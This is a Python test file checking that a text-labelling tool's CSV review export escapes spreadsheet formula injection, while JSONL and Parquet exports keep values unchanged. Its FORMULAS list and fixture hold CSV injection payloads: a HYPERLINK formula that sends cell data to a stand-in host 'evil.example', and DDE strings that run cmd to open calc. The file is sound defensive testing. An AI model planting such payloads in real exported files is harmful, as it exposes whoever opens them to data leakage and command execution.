"""Review decisions exported as CSV cannot run as formulas in a spreadsheet (probe finding 1).

A cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a ``'`` in front,
in the file that ``textloop review-export`` writes and that ``GET .../review/export`` sends
alike; JSONL and Parquet keep every value exactly as it was decided.
"""

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from fastapi.testclient import TestClient

from tests.processes import environment, run_cli
from textloop.config import Settings
from textloop.pipeline.ingestion import ingest_batch
from textloop.review.assignments import claim_next, decide
from textloop.security.accounts import create_user
from textloop.security.api_keys import create_api_key
from textloop.serving.app import create_app
from textloop.store import Store
from textloop.store.queries import get_classifier
from textloop.store.tables import ReviewTask

# what these check does not depend on the database: SQLite alone keeps CI short

# What an attacker sends to be classified, and what a spreadsheet would make of it.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["plain text about the match", "a=b is not a formula", " =leading space"]


@pytest.fixture
def decided(store: Store, settings: Settings) -> Store:
    """Classifier ``votes`` labelled ``+1``/``-1``, one decided task per text above."""
    texts = [f"sample {n} {'good' if n % 2 else 'bad'}" for n in range(40)]
    labels = ["+1" if n % 2 else "-1" for n in range(40)]
    ingest_batch(store, settings, "votes", pa.table({"text": texts, "label": labels}), "seed")
    with store.session() as session:
        classifier = get_classifier(session, "votes")
        for text in FORMULAS + HARMLESS:
            session.add(
                ReviewTask(
                    classifier_id=classifier.id,
                    source="implicit",
                    text=text,
                    suggested_label="=cmd|' /C calc'!A0",
                )
            )
            session.flush()
        rita = create_user(session, "rita@example.com", "a long password", "reviewer").id
        for _ in FORMULAS + HARMLESS:
            task = claim_next(session, "votes", rita)
            assert task is not None
            decide(session, task.id, rita, "-1")
    return store


def csv_rows(data: bytes) -> list[dict[str, str]]:
    """The rows as a spreadsheet reads them: every cell as the text it starts with."""
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def assert_neutralised(rows: list[dict[str, str]]) -> None:
    assert [row["text"] for row in rows] == ["'" + text for text in FORMULAS] + HARMLESS
    assert {row["decision"] for row in rows} == {"'-1"}
    assert {row["final_label"] for row in rows} == {"'-1"}
    assert {row["suggested_label"] for row in rows} == {"'=cmd|' /C calc'!A0"}
    assert {row["reviewer"] for row in rows} == {"rita@example.com"}


def test_the_cli_writes_formula_cells_as_text(
    decided: Store, tmp_path: Path, database_url: str
) -> None:
    env = environment(tmp_path / "data", database_url)
    output = tmp_path / "votes.csv"
    exported = run_cli(env, "review-export", "votes", "--format", "csv", "--output", str(output))
    assert exported.returncode == 0, exported.stderr
    assert_neutralised(csv_rows(output.read_bytes()))


@pytest.fixture
def admin_client(decided: Store, settings: Settings) -> Iterator[tuple[TestClient, str]]:
    with decided.session() as session:
        key = create_api_key(session, ["admin"]).key
    with TestClient(create_app(settings), raise_server_exceptions=False) as client:
        yield client, key


def test_the_http_export_sends_formula_cells_as_text(
    admin_client: tuple[TestClient, str],
) -> None:
    client, key = admin_client
    path = "/v1/classifiers/votes/review/export"
    response = client.get(f"{path}?format=csv", headers={"x-api-key": key})
    assert response.status_code == 200
    assert_neutralised(csv_rows(response.content))


def test_jsonl_and_parquet_keep_every_value_exact(admin_client: tuple[TestClient, str]) -> None:
    client, key = admin_client
    path = "/v1/classifiers/votes/review/export"
    jsonl = client.get(f"{path}?format=jsonl", headers={"x-api-key": key}).text
    rows = [json.loads(line) for line in jsonl.splitlines()]
    parquet = client.get(f"{path}?format=parquet", headers={"x-api-key": key}).content
    table = pq.read_table(io.BytesIO(parquet))
    for texts, decisions in (
        ([row["text"] for row in rows], [row["decision"] for row in rows]),
        (table.column("text").to_pylist(), table.column("decision").to_pylist()),
    ):
        assert texts == FORMULAS + HARMLESS
        assert set(decisions) == {"-1"}
